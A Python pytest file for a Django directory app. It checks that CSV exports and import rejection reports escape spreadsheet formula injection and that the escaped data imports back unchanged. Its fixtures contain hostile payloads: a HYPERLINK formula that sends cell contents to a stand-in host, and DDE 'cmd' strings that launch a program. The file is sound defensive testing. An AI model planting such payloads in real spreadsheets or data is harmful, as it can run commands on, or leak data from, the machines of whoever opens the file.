"""CSV formula injection: what a spreadsheet would run comes out as text, in every CSV written.

The places CSV (PostgreSQL's COPY on PostGIS, Python on SpatiaLite: the same expectations
hold on both) and the import rejection reports go through core.spreadsheets; an export
imported back gives the same places.
"""

import csv
import io

import pytest
from django.core.management import call_command

from core.spreadsheets import neutralise, unneutralise
from directory.imports.readers import read
from directory.imports.service import import_places
from directory.models import Organisation, Place
from tests.factories import OrganisationFactory, PlaceFactory

from .conftest import streamed

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
COMMAND = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+33 4 78 00 00 00", "'+33 4 78 00 00 00"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # a quote already there: one more, so that reading gives it back
        ("-4.48", "-4.48"),  # plain numbers are numbers, never formulas
        ("+33", "+33"),
        ("'-4.48", "'-4.48"),
        ("Maison des langues", "Maison des langues"),
        ("", ""),
        (-4.48, -4.48),
    ],
)
def test_the_rule_and_its_inverse(value, written):
    assert neutralise(value) == written
    if isinstance(value, str):
        assert unneutralise(written) == value


@pytest.fixture
def hostile(db):
    organisation = OrganisationFactory(name="@Association piège", slug="piege")
    return [
        PlaceFactory(
            organisation=organisation,
            name=HYPERLINK,
            phone=COMMAND,
            street="@SUM(1+1)*cmd|' /C calc'!A0",
            public="-4.48",
            description="'=déjà protégé",
            lon=4.8799,
            lat=45.7667,
        ),
        PlaceFactory(
            organisation=organisation,
            name="Permanence ordinaire",
            phone="+33 4 78 00 00 00",
            lon=4.8357,
            lat=45.7640,
        ),
    ]


def _rows(content: bytes) -> dict[str, dict]:
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return {row["slug"]: row for row in rows}


def test_places_csv_download_neutralises_every_formula(client, hostile, exports_root):
    response = client.get("/exports/places.csv")

    assert response.status_code == 200
    rows = _rows(streamed(response))
    trap, plain = rows[hostile[0].slug], rows[hostile[1].slug]
    assert trap["name"] == "'" + HYPERLINK
    assert trap["phone"] == "'" + COMMAND
    assert trap["address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert trap["organisation"] == "'@Association piège"
    assert trap["public"] == "-4.48"
    assert trap["description"] == "''=déjà protégé"
    assert plain["phone"] == "'+33 4 78 00 00 00"
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows.values()
        for column, value in row.items()
        if column not in ("lon", "lat", "public")
    )


def test_the_neutralised_export_imports_back_to_the_same_places(client, hostile, exports_root):
    def shape(place):
        return (place.name, place.phone, place.street, place.public, place.description)

    before = sorted(shape(p) for p in hostile)
    data = streamed(client.get("/exports/places.csv"))
    Place.objects.all().delete()
    Organisation.objects.all().delete()

    report = import_places(read(io.BytesIO(data), "csv"), source="test", wet_run=True)

    assert (report.created, report.rejected) == (2, [])
    assert sorted(shape(p) for p in Place.objects.all()) == before
    assert Organisation.objects.get().name == "@Association piège"


def test_rejection_report_neutralises_the_values_it_quotes(db, tmp_path):
    source = tmp_path / "lieux.csv"
    source.write_text(
        "id,name,lon,lat\n"
        f'1,Lieu,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",45.76\n'
        "2,Autre,4.85,@SUM(A1)\n",
        encoding="utf-8",
    )
    report = tmp_path / "rejets.csv"

    call_command("import_places", str(source), "--source", "t", "--report", str(report))

    rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8-sig"), newline="")))
    values = [row[2] for row in rows[1:]]
    assert "'" + HYPERLINK in values and "'@SUM(A1)" in values
    assert not any(v.startswith(("=", "@")) for row in rows for v in row)
